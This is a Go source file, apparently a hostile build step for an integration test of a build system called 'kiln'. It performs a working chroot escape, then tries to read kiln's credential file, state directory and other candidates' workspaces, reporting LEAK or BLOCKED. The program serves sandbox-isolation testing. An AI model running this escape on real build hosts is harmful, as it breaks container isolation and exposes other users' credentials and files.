// Hostile build step (tests/integration/hostile_build_test.sh): the classic chroot escape
// (chroot into a subdirectory while the working directory stays outside, walk up, chroot to
// the real root), then looks for kiln's credential, state and another candidate's files from
// wherever it ended up. Prints RESULT lines like hostile_probe.sh.
package main

import (
	"fmt"
	"os"
	"strings"
	"syscall"
)

func secretIn(b []byte) bool {
	s := string(b)
	return strings.Contains(s, "kiln-hostile-"+"secret") || strings.Contains(s, "\"au"+"ths\"")
}

func main() {
	escaped := false
	if err := os.MkdirAll("/.hostile-esc", 0o700); err == nil {
		if err := syscall.Chroot("/.hostile-esc"); err == nil {
			for i := 0; i < 64; i++ {
				_ = syscall.Chdir("..")
			}
			if err := syscall.Chroot("."); err == nil {
				_, e1 := os.Stat("/usr/bin/buildah")
				escaped = e1 == nil
			}
		}
	}
	fmt.Printf("RESULT chroot_escape INFO host_root_reached=%v\n", escaped)
	check := func(name, path string) {
		if path == "" {
			return
		}
		if b, err := os.ReadFile(path); err == nil && secretIn(b) {
			fmt.Printf("RESULT %s LEAK %s\n", name, path)
			return
		}
		if ents, err := os.ReadDir(path); err == nil && len(ents) > 0 {
			fmt.Printf("RESULT %s LEAK listed %s\n", name, path)
			return
		}
		fmt.Printf("RESULT %s BLOCKED\n", name)
	}
	check("escape_auth_file", os.Getenv("H_AUTH"))
	check("escape_state_dir", os.Getenv("H_STATE"))
	check("escape_other_workspace", os.Getenv("H_VICTIM"))
	check("escape_other_storage", os.Getenv("H_VICTIM_STORE"))
	check("escape_other_cache", os.Getenv("H_VICTIM_CACHE"))
}
